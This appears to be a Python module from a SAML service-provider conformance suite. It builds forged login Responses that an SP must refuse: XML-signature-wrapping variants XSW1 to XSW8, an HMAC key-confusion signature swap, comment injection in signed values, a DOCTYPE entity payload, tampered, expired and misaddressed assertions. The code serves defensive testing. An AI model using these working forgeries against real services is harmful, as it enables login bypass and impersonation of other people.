"""Forged and wrong logins: what the SP conformance suite hands a service provider through the
portal, each of which it must refuse without creating a session (sikkerhetsportal.md, "What an
SP must get right").

Each forgery builds the Response bytes the SP receives for one of its own AuthnRequests. The
honest parts are made as the portal makes them (``tpn.mocks.saml.messages``), then
broken in one way: left unsigned, signed with another key, changed after signing, wrapped
around the signed original (the eight XML-signature-wrapping placements of "On Breaking SAML",
USENIX Security 2012), cut with a comment, given a DOCTYPE, expired, not yet valid, for another
audience or recipient, in response to no request, at a level too low, or for a uid that is no
fødselsnummer. Replay is a property of two logins, not of one document: the suite sends the
same bytes twice.

Each is made for the binding that carries it (``Context.binding``). Over HTTP-Artifact the
Response comes back inside the portal's SOAP answer, as before. Over HTTP-POST the browser
carries the Response itself, and what is signed at the Response level is what an attacker
would choose: the portal's own Responses (correct, and the wrong ones only the portal could
sign: expired, another audience, a low level ...) are signed at both levels, as the portal
signs them; one signed with another key is signed at both levels with that key; the tampered,
stripped, algorithm-swapped and assertion-wrapped ones carry no Response signature, since the
attacker cannot make a valid one and a broken one would only get them refused for the wrong
reason; the Response-level wrappings (XSW1, XSW2) are built around the signed Response. The
DOCTYPE one is a Response document with a DOCTYPE, not a SOAP envelope.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import hashlib
import hmac
from collections.abc import Callable
from dataclasses import dataclass, replace

from lxml import etree

from tpn.mocks.saml import keys, messages, ns

S = f"{{{ns.SAML}}}"
P = f"{{{ns.SAMLP}}}"
D = f"{{{ns.DS}}}"
SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"


@dataclass(frozen=True)
class Context:
    """One login under way: who asked, for whom, and who the portal says logged in."""

    idp_key: keys.SigningKey
    idp: str
    sp: str
    acs_url: str
    request_id: str
    uid: str
    level: int
    now: dt.datetime
    method: str = "Minid-PIN"
    other_uid: str = ""  # another persona: the attacker's choice in the wrapping variants
    attacker_key: keys.SigningKey | None = None
    binding: str = ns.ARTIFACT  # what carries the Response to the SP

    @property
    def posted(self) -> bool:
        return self.binding == ns.POST


@dataclass(frozen=True)
class Forgery:
    """A forged Response; ``raw`` when the bytes are a whole SOAP answer (over HTTP-Artifact, a
    DOCTYPE cannot sit inside the portal's envelope)."""

    name: str
    data: bytes
    raw: bool = False


def _assertion(ctx: Context, **changes: object) -> etree._Element:
    login = messages.Login(
        uid=str(changes.get("uid", ctx.uid)),
        level=ctx.level,
        method=ctx.method,
        culture="nb",
        name_id=messages.new_id(),
        session_index=messages.new_id(),
        authn_instant=ctx.now,
    )
    now = changes.get("now", ctx.now)
    assert isinstance(now, dt.datetime)
    a = messages.assertion(
        idp=ctx.idp,
        sp=str(changes.get("audience", ctx.sp)),
        acs_url=str(changes.get("recipient", ctx.acs_url)),
        in_response_to=str(changes.get("in_response_to", ctx.request_id)),
        login=login,
        now=now,
    )
    if "level" in changes:
        level = int(str(changes["level"]))
        for attribute in a.iter(f"{S}Attribute"):
            if attribute.get("Name") == "SecurityLevel":
                attribute[0].text = str(level)
        # The AuthnContext agrees: an SP reading either must see the lower level.
        ref = a.find(f".//{S}AuthnContextClassRef")
        assert ref is not None
        ref.text = ns.CLASS_OF_LEVEL.get(level, "urn:oasis:names:tc:SAML:2.0:ac:classes:Password")
    if "not_before" in changes:
        conditions = a.find(f"{S}Conditions")
        assert conditions is not None
        conditions.set("NotBefore", messages.instant(changes["not_before"]))  # type: ignore[arg-type]
    return a


def _response(ctx: Context, assertion: etree._Element | None) -> etree._Element:
    return messages.response(
        idp=ctx.idp,
        destination=ctx.acs_url,
        in_response_to=ctx.request_id,
        signed_assertion=assertion,
        now=ctx.now,
    )


def _bytes(response: etree._Element) -> bytes:
    return etree.tostring(response)


def _signed(ctx: Context, **changes: object) -> etree._Element:
    return messages.sign(_assertion(ctx, **changes), ctx.idp_key)


def _sent(
    ctx: Context, assertion: etree._Element, key: keys.SigningKey | None = None
) -> etree._Element:
    """The Response around ``assertion`` as its signer sends it: over HTTP-POST signed at the
    Response level too (with ``key``, else the portal's), as the portal signs its own."""
    r = _response(ctx, assertion)
    return messages.sign(r, key or ctx.idp_key) if ctx.posted else r


def correct(ctx: Context) -> bytes:
    """The login as the portal makes it (assertion signed; over HTTP-POST the Response too)."""
    return _bytes(_sent(ctx, _signed(ctx)))


# ------------------------------------------------------------------ signatures


def unsigned(ctx: Context) -> bytes:
    return _bytes(_response(ctx, _assertion(ctx)))


def wrong_key(ctx: Context) -> bytes:
    other = ctx.attacker_key or keys.generate("not the portal")
    return _bytes(_sent(ctx, messages.sign(_assertion(ctx), other), other))


def tampered_uid(ctx: Context) -> bytes:
    """Signed, then the uid changed to another persona's."""
    r = _response(ctx, _signed(ctx))
    _uid(r).text = ctx.other_uid
    return _bytes(r)


def stripped_signature(ctx: Context) -> bytes:
    r = _response(ctx, _signed(ctx))
    for sig in list(r.iter(f"{D}Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    return _bytes(r)


def swapped_algorithm(ctx: Context) -> bytes:
    """The classic key confusion: SignatureMethod says HMAC-SHA256, and the SignatureValue is
    an HMAC of the SignedInfo keyed with the portal's public certificate, which an SP that
    honours the message's algorithm would check with the only key it has."""
    r = _response(ctx, _signed(ctx))
    method = r.find(f".//{D}SignatureMethod")
    signed_info = r.find(f".//{D}SignedInfo")
    value = r.find(f".//{D}SignatureValue")
    assert method is not None and signed_info is not None and value is not None
    method.set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")
    canonical = etree.tostring(signed_info, method="c14n", exclusive=True)
    mac = hmac.new(ctx.idp_key.cert_pem, canonical, hashlib.sha256).digest()
    value.text = base64.b64encode(mac).decode("ascii")
    return _bytes(r)


def _uid(root: etree._Element) -> etree._Element:
    for attribute in root.iter(f"{S}Attribute"):
        if attribute.get("Name") == "uid":
            return attribute[0]
    raise ValueError("no uid attribute")


# ------------------------------------------------------------------ signature wrapping


def _evil(ctx: Context, original: etree._Element) -> etree._Element:
    """An unsigned copy of ``original`` naming the attacker's persona, with its own ID."""
    evil = copy.deepcopy(original)
    for sig in list(evil.iter(f"{D}Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    evil.set("ID", messages.new_id())
    _uid(evil).text = ctx.other_uid
    return evil


def _signed_response(ctx: Context) -> etree._Element:
    """Response and assertion both signed, as the portal sends them."""
    return messages.sign(_response(ctx, _signed(ctx)), ctx.idp_key)


def xsw1(ctx: Context) -> bytes:
    """Response level: an evil Response carrying the original's Signature, the original Response
    inside that Signature's ds:Object."""
    original = _signed_response(ctx)
    evil = _evil(ctx, original)
    signature = copy.deepcopy(original.find(f"{D}Signature"))
    assert signature is not None
    obj = etree.SubElement(signature, f"{D}Object")
    stripped = copy.deepcopy(original)
    sig = stripped.find(f"{D}Signature")
    assert sig is not None
    stripped.remove(sig)
    obj.append(stripped)
    issuer = evil.find(f"{S}Issuer")
    assert issuer is not None
    issuer.addnext(signature)
    return _bytes(evil)


def xsw2(ctx: Context) -> bytes:
    """Response level: the evil Response holds the original (signed) Response before its own
    content, detached."""
    original = _signed_response(ctx)
    evil = _evil(ctx, original)
    issuer = evil.find(f"{S}Issuer")
    assert issuer is not None
    issuer.addnext(original)
    return _bytes(evil)


def _assertion_wrap(
    ctx: Context, place: Callable[[etree._Element, etree._Element, etree._Element], None]
) -> bytes:
    r = _response(ctx, _signed(ctx))
    original = r.find(f"{S}Assertion")
    assert original is not None
    evil = _evil(ctx, original)
    place(r, original, evil)
    return _bytes(r)


def xsw3(ctx: Context) -> bytes:
    """An evil assertion before the signed one."""
    return _assertion_wrap(ctx, lambda r, o, e: o.addprevious(e))


def xsw4(ctx: Context) -> bytes:
    """The evil assertion in the original's place, the signed original inside it."""

    def place(r: etree._Element, o: etree._Element, e: etree._Element) -> None:
        o.addprevious(e)
        r.remove(o)
        e.append(o)

    return _assertion_wrap(ctx, place)


def xsw5(ctx: Context) -> bytes:
    """The evil assertion carries the original's Signature; the original, unsigned, after it."""

    def place(r: etree._Element, o: etree._Element, e: etree._Element) -> None:
        signature = o.find(f"{D}Signature")
        assert signature is not None
        issuer = e.find(f"{S}Issuer")
        assert issuer is not None
        issuer.addnext(copy.deepcopy(signature))
        o.remove(signature)
        o.addprevious(e)

    return _assertion_wrap(ctx, place)


def xsw6(ctx: Context) -> bytes:
    """The evil assertion carries the Signature, the signed original inside its ds:Object."""

    def place(r: etree._Element, o: etree._Element, e: etree._Element) -> None:
        signature = copy.deepcopy(o.find(f"{D}Signature"))
        assert signature is not None
        issuer = e.find(f"{S}Issuer")
        assert issuer is not None
        issuer.addnext(signature)
        r.remove(o)
        etree.SubElement(signature, f"{D}Object").append(o)
        r.append(e)

    return _assertion_wrap(ctx, place)


def xsw7(ctx: Context) -> bytes:
    """The signed original in the Response's Extensions, the evil assertion as the Assertion."""

    def place(r: etree._Element, o: etree._Element, e: etree._Element) -> None:
        r.remove(o)
        issuer = r.find(f"{S}Issuer")
        assert issuer is not None
        extensions = etree.Element(f"{P}Extensions")
        issuer.addnext(extensions)
        extensions.append(o)
        r.append(e)

    return _assertion_wrap(ctx, place)


def xsw8(ctx: Context) -> bytes:
    """The evil assertion carries the Signature, the original without it inside ds:Object."""

    def place(r: etree._Element, o: etree._Element, e: etree._Element) -> None:
        signature = o.find(f"{D}Signature")
        assert signature is not None
        o.remove(signature)
        issuer = e.find(f"{S}Issuer")
        assert issuer is not None
        issuer.addnext(signature)
        etree.SubElement(signature, f"{D}Object").append(o)  # moves it out of the Response
        r.append(e)

    return _assertion_wrap(ctx, place)


# ------------------------------------------------------------------ content


def comment_in_uid(ctx: Context) -> bytes:
    """Signed, then a comment inside the uid: exclusive C14N drops it, so the signature holds,
    and code that reads ``.text`` gets only the part before it."""
    data = correct(ctx)
    cut = ctx.uid[:6].encode() + b"<!---->" + ctx.uid[6:].encode()
    return data.replace(f">{ctx.uid}<".encode(), b">" + cut + b"<", 1)


def comment_in_nameid(ctx: Context) -> bytes:
    r = _sent(ctx, _signed(ctx))
    name_id = r.find(f".//{S}NameID")
    assert name_id is not None and name_id.text
    text = name_id.text
    data = _bytes(r)
    return data.replace(f">{text}<".encode(), f">{text[:8]}<!---->{text[8:]}<".encode(), 1)


def doctype(ctx: Context) -> Forgery:
    """A DOCTYPE declaring an entity (XXE), used inside the uid: over HTTP-Artifact in the SOAP
    answer, over HTTP-POST in the Response document itself. The entity stands for the uid the
    portal signed, so a parser that expands it sees a document whose signatures hold."""
    inner = correct(ctx).replace(f">{ctx.uid}<".encode(), b">&uid;<", 1)
    if ctx.posted:
        declared = b'<!DOCTYPE samlp:Response [<!ENTITY uid "' + ctx.uid.encode() + b'">]>\n'
        return Forgery("doctype", b'<?xml version="1.0"?>\n' + declared + inner)
    envelope = (
        b'<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY uid "'
        + ctx.uid.encode()
        + b'">]>\n'
        + f'<soap:Envelope xmlns:soap="{SOAP11}"><soap:Body>'.encode()
        + f'<samlp:ArtifactResponse xmlns:samlp="{ns.SAMLP}" xmlns:saml="{ns.SAML}" '.encode()
        + f'ID="{messages.new_id()}" Version="2.0" IssueInstant="{messages.instant(ctx.now)}">'.encode()
        + f"<saml:Issuer>{ctx.idp}</saml:Issuer><samlp:Status>".encode()
        + f'<samlp:StatusCode Value="{ns.SUCCESS}"/></samlp:Status>'.encode()
        + inner
        + b"</samlp:ArtifactResponse></soap:Body></soap:Envelope>"
    )
    return Forgery("doctype", envelope, raw=True)


def expired(ctx: Context) -> bytes:
    return _bytes(_sent(ctx, _signed(ctx, now=ctx.now - dt.timedelta(hours=1))))


def not_yet_valid(ctx: Context) -> bytes:
    later = ctx.now + dt.timedelta(hours=1)
    return _bytes(_sent(ctx, _signed(ctx, not_before=later, now=later)))


def wrong_audience(ctx: Context) -> bytes:
    return _bytes(_sent(ctx, _signed(ctx, audience="https://another-sp.example/")))


def wrong_recipient(ctx: Context) -> bytes:
    return _bytes(_sent(ctx, _signed(ctx, recipient="https://another-sp.example/acs")))


def unknown_request(ctx: Context) -> bytes:
    other = replace(ctx, request_id=messages.new_id())
    return _bytes(_sent(other, _signed(other)))


def low_level(ctx: Context) -> bytes:
    return _bytes(_sent(ctx, _signed(ctx, level=ctx.level - 1)))


def invalid_uid(ctx: Context) -> bytes:
    wrong = ctx.uid[:10] + str((int(ctx.uid[10]) + 1) % 10)
    return _bytes(_sent(ctx, _signed(ctx, uid=wrong)))


FORGERIES: dict[str, Callable[[Context], bytes | Forgery]] = {
    "unsigned": unsigned,
    "wrong-key": wrong_key,
    "tampered-uid": tampered_uid,
    "stripped-signature": stripped_signature,
    "swapped-algorithm": swapped_algorithm,
    "xsw1": xsw1,
    "xsw2": xsw2,
    "xsw3": xsw3,
    "xsw4": xsw4,
    "xsw5": xsw5,
    "xsw6": xsw6,
    "xsw7": xsw7,
    "xsw8": xsw8,
    "comment-in-uid": comment_in_uid,
    "comment-in-nameid": comment_in_nameid,
    "doctype": doctype,
    "expired": expired,
    "not-yet-valid": not_yet_valid,
    "wrong-audience": wrong_audience,
    "wrong-recipient": wrong_recipient,
    "unknown-request": unknown_request,
    "low-level": low_level,
    "invalid-uid": invalid_uid,
}


def forge(name: str, ctx: Context) -> Forgery:
    made = FORGERIES[name](ctx)
    return made if isinstance(made, Forgery) else Forgery(name, made)
